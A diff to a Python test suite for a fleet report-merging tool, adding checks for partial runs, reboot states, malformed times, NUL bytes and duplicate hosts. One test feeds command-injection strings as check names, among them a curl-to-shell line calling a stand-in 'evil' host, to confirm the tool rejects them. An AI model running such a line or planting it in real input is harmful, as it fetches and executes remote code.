@@ -28,6 +28,11 @@ def concluded(document, verdict, code):
     return {**document, "verdict": verdict, "exit_code": code}
 
 
+def part(document):
+    """A run of some checks."""
+    return {**document, "complete": False, "selection": {**document["selection"], "only": "*-ats,gpu*"}}
+
+
 def failing(document, check="hca-ats", waived=False):
     document = copy.deepcopy(document)
     for f in document["findings"]:
@@ -71,7 +76,44 @@ class Claims(Case):
         self.assertIn("nothing was judged", self.merged(concluded(document, "compliant", 0), "ok", 3)["reason"])
 
     def test_a_part_is_said_to_be_one(self):
-        self.assertIn("only a part", self.merged({**good("a"), "complete": False}, "ok", 0)["reason"])
+        self.assertIn("only a part", self.merged(part(good("a")), "ok", 0)["reason"])
+        self.assertIn("ended early", self.merged({**good("a"), "complete": False}, "ok", 3)["reason"])
+
+    def test_errors_and_a_verdict(self):
+        errors = [{"where": "maintenance-mode", "text": "It failed."}]
+        for document in ({**good("a"), "errors": errors}, {**good("a"), "errors": errors, "command": "fix"},
+                         {**failing(good("a")), "errors": errors}):
+            self.assertIn("It failed", self.merged(document, "bad-output", 3)["reason"])
+        stopped = self.merged({**failing(good("a")), "errors": errors, "command": "fix"}, "ok", 2)
+        self.assertEqual(stopped["report"]["errors"], errors)
+        (self.folder / "f.json").write_bytes(dump(merge(self.folder, "in")[0]))
+        said = subprocess.run([PROGRAM, "summary", self.folder / "f.json"], stdout=subprocess.PIPE, check=False).stdout.decode()
+        self.assertIn("maintenance-mode: It failed.", said)
+
+    def test_reboots_that_contradict(self):
+        needed = {"required": True, "kind": "full", "reasons": [{"check": "hca-ats", "subject": "host", "text": "It waits."}]}
+        for command in ("check", "fix", "undo"):
+            self.assertIn("a reboot is required", self.merged({**good("a"), "command": command, "reboot": needed}, "bad-output", 3)["reason"])
+        waiting = good("a")
+        for f in waiting["findings"]:
+            if f["check"] == "hca-ats":
+                f.update(state="pending-reboot", remedy={**f["remedy"], "reboot": "full"})
+        waiting = concluded(waiting, "reboot-pending", 4)
+        self.merged(waiting, "ok", 4)
+        none = {"required": False, "kind": "none", "reasons": []}
+        self.assertIn("wait for a reboot", self.merged({**waiting, "reboot": none}, "bad-output", 3)["reason"])
+
+    def test_times_that_are_none(self):
+        for text in ("yesterday", "", "2026-11-27T01:30:00+02:00", "2026-11-26t14:02:31z", "2026-13-45T00:00:00Z",
+                     "2026-11-26T14:02:31.9Z", "2026-11-26"):
+            for name in ("started", "finished"):
+                self.assertIn(f'its "{name}" is no time', self.merged({**good("a"), name: text}, "bad-output", 3)["reason"])
+        self.assertIn("when it was made", self.merged({**good("a"), "finished": None}, "bad-output", 3)["reason"])
+
+    def test_versions(self):
+        for version, state in (("1.0.0", "ok"), ("1.3.0", "ok"), ("1.garbage", "bad-output"), ("1.", "bad-output"),
+                               ("10.0.0", "bad-output"), ("2.0.0", "bad-output")):
+            self.merged({**good("a"), "schema_version": version}, state, 0 if state == "ok" else 3, valid=False)
 
     def test_names_that_are_commands(self):
         for check in ("x;curl${IFS}evil|sh", "$(id)", "", "A", "x" * 65, "-x"):
@@ -105,6 +147,11 @@ class Claims(Case):
                                   stderr=subprocess.PIPE, check=False)
             self.assertEqual(done.returncode, 1, done.stdout)
             self.assertEqual(merge(self.folder, "in")[1], 3)
+        for lines, code in (([a, b], 2), ([], 3)): # a head that is worse than its rows; none
+            self.put("f.json", dump(self.fleet(lines, code)))
+            self.put("c.json", dump(good("c")))
+            self.assertEqual(merge(self.folder, "in")[1], 3)
+        (self.folder / "in/c.json").unlink()
         self.put("f.json", dump(self.fleet([b, a], 0))) # in whatever order
         self.assertEqual(merge(self.folder, "in")[1], 0)
         self.put("f.json", dump(self.fleet([{**a, "state": "timeout"}], 3)))
@@ -126,6 +173,26 @@ class Collections(Case):
             fleet, code, _ = merge(self.folder, "in", hosts=["a", "b"])
             self.assertEqual({n: r["state"] for n, r in rows(fleet).items()}, {"a": "bad-output", "b": "ok"})
             self.assertEqual(code, 2)
+
+    def test_a_nul_hides_nothing(self):
+        bad = failing(self.b)
+        a, b = dump(self.a, None), dump(bad, None)
+        for text in (a + b"\0\n" + b, a + b"\0" + b, b"[" + a + b"]\0" + b, b"\0" + a + b, a + b"\n\0\n" + b, a + b"\0"):
+            for name, data in (("all.ndjson", text), ("x.json", text), ("x.json.gz", gzip.compress(text)),
+                               ("x.json", b"\xff\xfe" + text.decode().encode("utf-16-le"))):
+                self.put(name, data)
+                self.assertGreater(merge(self.folder, "in", hosts=["a"])[1], 0, (name, text[:3]))
+                self.assertIn(merge(self.folder, "-", text=data)[1], (2, 3))
+                (self.folder / "in" / name).unlink()
+        self.put("a.json", a + b"\0 more")
+        self.assertEqual(rows(merge(self.folder, "in", hosts=["a"])[0])["a"]["state"], "bad-output")
+        (self.folder / "in/a.json").unlink()
+        fleets = [dump(Claims.fleet([maker.row(d["host"]["name"], "c", d)], code), None) for d, code in ((self.a, 0), (bad, 2))]
+        self.put("f.json", fleets[0] + b"\0" + fleets[1])
+        self.assertEqual(merge(self.folder, "in")[1], 3)
+        for words in (("summary", "in/f.json"), ("merge", "in", "--baseline", "in/f.json")):
+            self.assertEqual(subprocess.run([PROGRAM, *words], cwd=self.folder, stdout=subprocess.DEVNULL,
+                                            stderr=subprocess.DEVNULL, check=False).returncode, 1, words)
 
     def test_what_is_cut_is_told(self):
         line = dump(self.a, None)
@@ -195,11 +262,28 @@ class Machines(Case):
 
     def test_a_part_does_not_stand_for_the_whole(self):
         whole = good("a")
-        part = later({**whole, "complete": False})
-        for first, second, code in ((failing(whole), part, 2), (whole, failing(part), 2), (whole, part, 0)):
+        some = later(part(whole))
+        for first, second, code in ((failing(whole), some, 2), (whole, failing(some), 2), (whole, some, 0)):
             self.put("1/a.json", dump(first))
             self.put("2/a.json", dump(second))
             self.assertEqual(merge(self.folder, "in")[1], code)
+
+    def test_as_new_and_worse(self):
+        """Of two reports of one second the worse one counts, however they are given."""
+        for names in ("12", "21"):
+            for place in ("1", "2"):
+                self.put(f"{place}/a.json", dump(failing(good("a")) if place == names[0] else good("a")))
+            for order in (("in/1", "in/2"), ("in/2", "in/1")):
+                self.assertEqual(merge(self.folder, *order)[1], 2)
+
+    def test_one_uuid_in_two_spellings(self):
+        a, b = good("a"), good("b")
+        a["host"]["uuid"] = "6A98270C-b75f-a36d-06fd-000000000001"
+        b["host"]["uuid"] = "6a98270cb75fa36d06fd000000000001"
+        self.put("a.json", dump(later(a)))
+        self.put("b.json", dump(b))
+        document, code, _ = merge(self.folder, "in")
+        self.assertEqual(({name: row["state"] for name, row in rows(document).items()}, code), ({"a": "ok", "b": "duplicate"}, 3))
 
     def test_a_kept_report_is_said_to_be_one(self):
         self.put("a.json", dump({**good("a"), "age_s": 7200}))
